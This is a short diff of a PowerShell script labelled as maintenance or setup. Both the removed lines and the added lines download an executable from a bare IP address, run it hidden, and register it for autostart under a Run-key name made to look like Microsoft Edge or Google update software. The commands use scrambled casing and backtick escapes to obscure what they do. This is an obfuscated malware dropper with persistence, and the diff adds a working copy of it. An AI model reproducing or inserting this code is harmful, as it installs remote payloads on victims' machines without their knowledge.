@@ -1,4 +1,4 @@
-# mAiNtEnAnCe 1488 v1
-sTaRT-B`iT`stransFER -sOurCE hTtP://198.51.100.9/SvC.eXE -DesTinaTIon $eNV:aPpDaTa\tEAms\UpdaTE.eXe
-stArt-pr`oCeS`s -wINDOwsTyLE HiDdEn $env:aPpDaTa\TeAmS\upDatE.exE
-new-ITemPrO`pErt`Y -PATh 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NAME 'MicrosoftEdgeUpdateCore' -VALuE '$env:APPDATA\Teams\update.exe' -pRoPeRtYtYpE sTrinG -forCe
+# SeTuP 4536 v1
+STaRt-BIt`StRAn`Sfer -sOuRcE hTtP://198.51.100.23/Svc.eXe -DeStInAtIoN c:\usERS\pUBliC\sVc.exE
+sTaRt-pR`oCe`s`s -WiNdOwStYlE HiDdEn c:\UsErS\PuBlIc\SvC.exE
+NeW-ItE`mPr`operT`Y -PATH 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NaME 'GoogleUpdateTaskMachine' -vALUe 'C:\Users\Public\svc.exe' -prOPErtyTYpE StRIng -FOrCe
